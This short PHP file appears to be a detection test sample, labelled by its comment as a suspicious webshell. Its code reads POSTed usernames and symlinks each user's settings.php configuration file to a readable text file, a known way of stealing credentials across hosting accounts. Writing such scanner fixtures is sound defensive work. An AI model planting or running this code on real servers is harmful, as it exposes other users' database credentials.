<?php return; // want: suspicious webshell php.links.lines
foreach (explode("\n", $_POST['names']) as $one)
	symlink('/home/' . trim($one) . '/public_html/settings.php', trim($one) . '.txt');
